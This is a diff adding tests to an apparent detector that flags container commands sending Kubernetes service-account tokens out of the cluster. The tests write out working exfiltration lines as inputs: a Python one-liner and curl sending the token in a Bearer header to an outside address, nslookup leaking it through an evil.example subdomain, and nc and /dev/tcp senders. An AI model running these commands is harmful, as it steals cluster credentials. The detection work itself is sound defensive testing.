@@ -123,6 +123,25 @@ describe('container_command_egress: a credential sent inside the cluster', () =>
     expect(commandShape(['curl', '-d', `@${TOKEN}`, 'https://$KUBERNETES_SERVICE_HOST/u'], undefined, { env: new Map([['KUBERNETES_SERVICE_HOST', '203.0.113.9']]), namesRedirected: false })).toBe('send_credentials');
   });
 
+  it("an interpreter's own client is read by its URLs, as a downloader is", () => {
+    const code = `import urllib.request as u; t=open('${TOKEN}').read(); print(u.urlopen(u.Request('https://kubernetes.default.svc/api', headers={'Authorization':'Bearer '+t})).read())`;
+    expect(commandShape(['python3', '-c', code])).toBeUndefined();
+    expect(commandShape(['python3', '-c', code.replace('kubernetes.default.svc', '203.0.113.9')])).toBe('send_credentials');
+    // A proxy in the container's env sees it; so does a name the pod resolves itself.
+    expect(commandShape(['python3', '-c', code], undefined, { env: new Map([['HTTPS_PROXY', 'http://203.0.113.9:3128']]), namesRedirected: false })).toBe('send_credentials');
+    expect(commandShape(['python3', '-c', code], undefined, { env: new Map(), namesRedirected: true })).toBe('send_credentials');
+    // The code is not split at its own `;` when it sits inside a shell script.
+    expect(commandShape(sh(`cd /app; python3 -u -c "${code.replace('kubernetes.default.svc', '203.0.113.9')}"`))).toBe('send_credentials');
+  });
+
+  it('a credential in a substitution leaves in a URL, a header or a name looked up, but not to the cluster', () => {
+    expect(commandShape(sh(`curl -s -H "Authorization: Bearer $(cat ${TOKEN})" https://203.0.113.9/api`))).toBe('send_credentials');
+    expect(commandShape(sh(`curl -s -H "Authorization: Bearer $(cat ${TOKEN})" https://kubernetes.default.svc/api`))).toBeUndefined();
+    expect(commandShape(sh(`nslookup $(cat ${TOKEN} | cut -c1-60).x.evil.example`))).toBe('send_credentials');
+    expect(commandShape(sh(`cat ${TOKEN} | cut -c1-60 | xargs -I{} nslookup {}.x.evil.example`))).toBe('send_credentials');
+    expect(commandShape(sh('until nslookup db.$(cat /var/run/secrets/kubernetes.io/serviceaccount/namespace).svc.cluster.local; do sleep 2; done'))).toBeUndefined();
+  });
+
   it('nc, socat and /dev/tcp stay senders whatever they name', () => {
     expect(commandShape(sh(`cat ${TOKEN} | nc vault.vault.svc 8200`))).toBe('send_credentials');
     expect(commandShape(sh('env > /dev/tcp/localhost/9000'))).toBe('send_credentials');
